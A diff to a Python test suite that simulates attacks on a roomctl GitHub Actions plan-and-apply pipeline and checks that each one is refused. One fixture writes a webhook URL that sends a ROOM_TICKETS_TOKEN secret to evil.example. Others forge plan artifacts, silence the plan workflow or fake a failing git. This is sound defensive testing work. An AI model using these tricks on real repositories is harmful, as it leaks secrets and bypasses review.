@@ -4,6 +4,7 @@ that a program may take (loopback.py), and the rehearsal says where.
 An attack gets the stage, does what somebody would do, checks that nothing came of it, and gives out what stopped it.
 Afterwards the default branch is what it was before."""
 
+import contextlib
 import json
 import os
 import re
@@ -12,7 +13,7 @@ import signal
 import socket
 import time
 
-from loopback import ACTION, MEMORY, check, git, largest
+from loopback import ACTION, MEMORY, Failed, check, git, largest
 
 ATTACKS = []
 PUBLIC = "maxParticipants: 3\nprivacy: public\n"
@@ -52,7 +53,8 @@ def not_planned(s, pull, *words):
     check(s.commented is False, s.runner.log)
     for word in words:
         check(word in s.comment_of(pull), s.comment_of(pull))
-    check(s.hub.get(f"/actions/artifacts?name=roomctl-plan-{pull['number']}-{pull['head']['sha']}") == {"artifacts": []}, "no plan")
+    kept = [one for one in s.hub.artifacts.values() if one["name"] == f"roomctl-plan-{pull['number']}"]
+    check(all(b"plan.roomctl" not in one["content"] for one in kept), "no plan")
     return f"{s.run.workflow}, {s.run.failed}"
 
 
@@ -121,7 +123,7 @@ def forging(name, job):
         "          HEAD: ${{ github.event.pull_request.head.sha }}\n"
         "      - uses: actions/upload-artifact@v4\n"
         "        with:\n"
-        "          name: roomctl-plan-${{ github.event.pull_request.number }}-${{ github.event.pull_request.head.sha }}\n"
+        "          name: roomctl-plan-${{ github.event.pull_request.number }}\n"
         "          path: ${{ github.workspace }}/forged\n"
     )
 
@@ -131,7 +133,7 @@ def a_forged_plan(s, workflow, about):
     pull = s.open({"rooms/forged.yaml": PUBLIC, f".github/workflows/{workflow}": forging("comment", "comment")})
     event = {"pull_request.number": pull["number"], "pull_request.head.sha": pull["head"]["sha"]}
     made, _ = s.runner.job(workflow, s.trial_merge(pull), {"head_branch": pull["branch"], **about}, event)
-    name = f"/actions/artifacts?name=roomctl-plan-{pull['number']}-{pull['head']['sha']}"
+    name = f"/actions/artifacts?name=roomctl-plan-{pull['number']}"
     check(made and len(s.hub.get(name)["artifacts"]) == 1, s.runner.log)
     # The workflow itself is left out of the merge: its artifact stays.
     check(s.apply(s.merge(pull)) is False and s.room("forged") is None, s.runner.log)
@@ -178,6 +180,31 @@ def a_head_that_moves(s):
     stopped = refused(s, 1, "the pull request moved meanwhile")
     check(s.apply(s.merge(pull)) is False and s.room("moves") is None, s.runner.log)
     return f"{stopped}; merged before its plan: {refused(s, 4)}"
+
+
+@attack("3", "a fork", "an older commit, pushed again when the comment showed another, and merged before it is planned")
+def an_older_commit_pushed_again(s):
+    pull = s.pull_request({"rooms/older.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
+    first = pull["head"]["sha"]
+    # Once behind a harmless one, and once behind one that is not planned at all.
+    for files in ({"rooms/older.yaml": "maxParticipants: 6\n"}, {"rooms/older.yaml": "privacy: [\n"}):
+        s.push_to(pull, files)
+        check("evil.example" not in s.comment_of(pull), s.comment_of(pull))
+        back_to(s, pull, first)
+        s.trial_merge(pull)
+        before = s.main()
+        check(s.apply(s.merge(pull)) is False and s.room("older") is None, s.runner.log)
+        stopped = refused(s, 4, "older: no reviewed plan has it")
+        s.go_on(before)
+        pull.update(state="open", merged_at=None)
+    return stopped
+
+
+def back_to(s, pull, sha):
+    """A forced push of a commit that the pull request had before."""
+    git("-C", s.clone, "checkout", "-q", "-B", pull["branch"], sha)
+    s.push(f"refs/pull/{pull['number']}/head")
+    pull["head"]["sha"] = sha
 
 
 # --- 4, 5: what is whose, and in which order
@@ -532,6 +559,69 @@ def a_branch_that_takes_nothing(s):
     return f"state.sh keep, which keeps the state of the run on {spare}"
 
 
+# --- 3, 5: nothing of the checkout is kept
+
+
+def planted(s, broken):
+    """A checkout with a state of somebody's, and one without, while `broken` keeps the action from taking the one of the
+    branch: by itself, as in a workflow of somebody else, and in ours."""
+    before = git("-C", s.origin, "rev-parse", "roomctl-state")
+    state = s.state().replace('"private"', '"public"')
+
+    def plant(clone):
+        (clone / ".roomctl").mkdir()
+        (clone / ".roomctl/state.json").write_text(state)
+
+    for also in (plant, None):
+        pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 7\n"}, also=also)
+        began = s.main()
+        sha = s.merge(pull)
+        with broken(s):
+            check(s.apply(sha) is False, s.runner.log)
+            failed = s.run.failed
+            given = {"command": "apply", "state": "roomctl-state", "applied": sha, "github-token": s.run.token, "version": "0.1.0"}
+            try:
+                s.runner.action(sha, {}, given)
+                check(False, "the action fails")
+            except Failed:
+                pass
+        check(git("-C", s.origin, "rev-parse", "roomctl-state") == before, git("-C", s.origin, "ls-tree", "roomctl-state"))
+        s.go_on(began)
+    return f"{failed}, and nothing is kept that the action did not take"
+
+
+@contextlib.contextmanager
+def without_a_release(s):
+    real = s.binary / "roomctl"
+    real.rename(s.work / "put-away")
+    try:
+        yield
+    finally:
+        (s.work / "put-away").rename(real)
+
+
+@contextlib.contextmanager
+def with_a_take_that_dies(s):
+    """In the middle: what is there by then is a part."""
+    real = shutil.which("git", path=s.plain["PATH"])
+    (s.binary / "git").write_text(f'#!/bin/sh\ncase "$*" in */roomctl-state\\ cat-file*) exit 1 ;; esac\nexec {real} "$@"\n')
+    (s.binary / "git").chmod(0o755)
+    try:
+        yield
+    finally:
+        (s.binary / "git").unlink()
+
+
+@attack("3, 5", "a fork", "a state in the checkout, or none, when the program cannot be installed")
+def a_state_beside_a_failed_install(s):
+    return planted(s, without_a_release)
+
+
+@attack("3, 5", "a fork", "a state in the checkout, or none, when taking the true one dies")
+def a_state_beside_a_take_that_dies(s):
+    return planted(s, with_a_take_that_dies)
+
+
 # --- 10: a job that is cancelled
 
 
@@ -614,6 +704,33 @@ def a_push_after_the_label(s):
     return refused(s, 4, "privacy-widened")
 
 
+@attack("11", "a fork", "an older commit, which a label that was set for another is to allow")
+def an_older_commit_behind_a_label(s):
+    pull = guarded(s)
+    first = pull["head"]["sha"]
+    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 2\n", "rooms/quick-3.yaml": PUBLIC})
+    s.hub.label(pull, ALLOW, "maintainer")
+    s.plan(pull)
+    back_to(s, pull, first)
+    s.plan(pull)
+    check("does not count: it was set before the last commit" in s.comment_of(pull), s.comment_of(pull))
+    check(s.apply(s.merge(pull)) is False, s.runner.log)
+    still_private(s)
+    return refused(s, 4, "privacy-widened")
+
+
+@attack("11", "a fork", "a label of another pull request, planned again when the fork's is merged and refused")
+def a_label_before_the_new_plan(s):
+    other = guarded(s, {"rooms/quick-3.yaml": PUBLIC})
+    s.hub.label(other, ALLOW, "maintainer")
+    s.plan(other)
+    check(s.apply(s.merge(s.pull_request({"rooms/quick-2.yaml": PUBLIC}))) is False, s.runner.log)
+    s.plan(other)
+    check(s.apply(s.merge(other)) is False, s.runner.log)
+    still_private(s)
+    return refused(s, 4, "privacy-widened", "the plan shows more since it was set")
+
+
 @attack("11", "a fork", "the label of another pull request that is applied in the same run")
 def the_label_of_another(s):
     allowed = guarded(s, {"rooms/quick-3.yaml": PUBLIC})
@@ -626,6 +743,57 @@ def the_label_of_another(s):
     # By hand, by somebody with write access, it goes on.
     check(s.apply(s.main(), allow="privacy-widened") and '"privacy":"public"' in s.room("quick-2"), s.runner.log)
     return stopped
+
+
+def never_planned(through, weak, file="roomctl.yaml"):
+    """A pull request that weakens what is applied, and takes care that no plan says so; then one that uses that."""
+
+    @attack("2, 11", "a fork", through)
+    def function(s):
+        before = (s.clone / "roomctl.yaml").read_text()
+        strong = s.pull_request({"roomctl.yaml": before + RULES, "rooms/quick-4.yaml": "maxParticipants: 4\n"}, who="maintainer")
+        check(s.apply(s.merge(strong)), s.runner.log)
+        sha = s.main()
+        plan = (s.clone / ".github/workflows/plan.yml").read_text()
+        check('"roomctl.yml"' in plan and file in plan, plan)
+        git("-C", s.clone, "checkout", "-q", "main")
+        quiet = plan.replace("  pull_request:\n", "  pull_request:\n    branches: [never]\n")
+        pull = s.open({".github/workflows/plan.yml": quiet, file: weak(before)})
+        if file == "roomctl.yml":
+            s.push_to(pull, {}, also=lambda clone: (clone / "roomctl.yaml").unlink(), plan=False)
+        s.trial_merge(pull)
+        check(s.apply(s.merge(pull)) is False and s.state("applied") == sha, s.runner.log)
+        stopped = refused(s, 4, "guard-weakened: no reviewed plan says")
+        check("start apply.yml by hand and allow" in s.hub.issues[-1]["body"], s.hub.issues[-1])
+        # The plan of the next is made with the weaker ones, and says nothing of them.
+        most = 900 if file == "mutes.yaml" else 1500
+        pull = s.pull_request({"rooms/quick-4.yaml": f"maxParticipants: {most}\n"})
+        check(s.apply(s.merge(pull)) is False and f'"maxParticipants":{most}' not in s.room("quick-4"), s.runner.log)
+        refused(s, 4, "guard-weakened: no reviewed plan says")
+        return stopped
+
+    function.__name__ = through
+
+
+never_planned("a policy and a guard that go where no plan is made", lambda config: config)
+never_planned("a configuration of the other name, of which no plan is made", lambda config: config, "roomctl.yml")
+never_planned("a mute of which no plan is made", lambda _: f"mutes: {json.dumps([{**MUTE, 'room': 'quick-*'}])}\n", "mutes.yaml")
+
+
+@attack("11", "nobody", "a weaker guard without a plan that somebody allows by hand: this one is let through")
+def a_weaker_guard_that_is_allowed_by_hand(s):
+    before = (s.clone / "roomctl.yaml").read_text()
+    strong = s.pull_request({"roomctl.yaml": before + RULES, "rooms/quick-4.yaml": "maxParticipants: 5\n"}, who="maintainer")
+    check(s.apply(s.merge(strong)), s.runner.log)
+    sha = s.straight_to_main({"roomctl.yaml": before})
+    check(s.apply(sha) is False, s.runner.log)
+    stopped = refused(s, 4, "guard-weakened")
+    check(s.apply(sha, allow="guard-weakened") and s.state("applied") == sha, s.runner.log)
+    # What is stronger again needs nobody.
+    check(s.apply(s.straight_to_main({"roomctl.yaml": before + RULES})), s.runner.log)
+    sha = s.straight_to_main({"roomctl.yaml": before})
+    check(s.apply(s.straight_to_main({"roomctl.yaml": before + RULES})), s.runner.log)
+    return f"nothing, as it should be; before that {stopped}"
 
 
 @attack("2, 11", "a fork", "a guard that it takes away together with what the guard refuses")
@@ -644,14 +812,14 @@ def a_guard_that_goes(s):
 def a_guard_that_goes_first(s):
     s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD})
     config = (s.clone / "roomctl.yaml").read_text().removesuffix(GUARD)
-    pull = s.pull_request({"roomctl.yaml": config, "rooms/quick-3.yaml": PUBLIC})
+    pull = s.pull_request({"roomctl.yaml": config, "rooms/board.yaml": PUBLIC})
     check(s.apply(s.merge(pull)) is False, s.runner.log)
     # Made on top of the first, its plan shows all that is left to do, and its base has no guard any more.
     pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 11\n"})
     check(s.apply(s.merge(pull)) is False, s.runner.log)
-    still_private(s, "quick-3")
+    still_private(s, "board")
     stopped = refused(s, 4, "privacy-widened")
-    check(s.apply(s.main(), allow="privacy-widened") and '"privacy":"public"' in s.room("quick-3"), s.runner.log)
+    check(s.apply(s.main(), allow="privacy-widened") and '"privacy":"public"' in s.room("board"), s.runner.log)
     return stopped
 
 
